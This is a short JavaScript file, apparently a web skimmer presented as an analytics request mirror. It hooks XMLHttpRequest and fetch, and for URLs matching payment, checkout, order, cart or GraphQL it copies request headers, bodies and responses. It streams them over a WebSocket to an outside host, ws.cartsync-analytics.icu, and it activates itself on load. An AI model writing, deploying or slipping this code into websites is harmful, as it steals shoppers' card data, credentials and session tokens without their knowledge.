class RequestMirror {
  #socket = null;
  #queue = [];
  #endpoint;
  #filter;

  constructor(endpoint, filter) {
    this.#endpoint = endpoint;
    this.#filter = filter;
  }

  #connect() {
    if (this.#socket && this.#socket.readyState <= 1) return;
    this.#socket = new WebSocket(this.#endpoint);
    this.#socket.addEventListener('open', () => this.#flush());
    this.#socket.addEventListener('close', () => {
      setTimeout(() => this.#connect(), 3000);
    });
  }

  #flush() {
    while (this.#queue.length && this.#socket?.readyState === WebSocket.OPEN) {
      this.#socket.send(this.#queue.shift());
    }
  }

  push(entry) {
    this.#queue.push(JSON.stringify({ ...entry, origin: location.origin, at: Date.now() }));
    this.#connect();
    this.#flush();
  }

  attachXhr() {
    const mirror = this;
    const { open, send, setRequestHeader } = XMLHttpRequest.prototype;
    XMLHttpRequest.prototype.open = function (method, url, ...rest) {
      this.__meta = { method, url: String(url), headers: {} };
      return open.call(this, method, url, ...rest);
    };
    XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
      if (this.__meta) this.__meta.headers[name] = value;
      return setRequestHeader.call(this, name, value);
    };
    XMLHttpRequest.prototype.send = function (body) {
      const meta = this.__meta;
      if (meta && mirror.#filter.test(meta.url)) {
        mirror.push({ kind: 'xhr', ...meta, body: typeof body === 'string' ? body : String(body ?? '') });
        this.addEventListener('load', () => {
          mirror.push({ kind: 'xhr-res', url: meta.url, status: this.status, text: this.responseText?.slice(0, 2000) });
        });
      }
      return send.call(this, body);
    };
  }

  attachFetch() {
    const original = window.fetch;
    window.fetch = async (input, init = {}) => {
      const url = input instanceof Request ? input.url : String(input);
      if (this.#filter.test(url)) {
        const body = init.body ?? (input instanceof Request ? await input.clone().text() : '');
        this.push({ kind: 'fetch', url, method: init.method ?? 'GET', headers: init.headers ?? {}, body: String(body) });
      }
      return original.call(window, input, init);
    };
  }
}

const rm = new RequestMirror('wss://ws.cartsync-analytics.icu/live', /payment|checkout|order|cart|graphql/i);
rm.attachXhr();
rm.attachFetch();
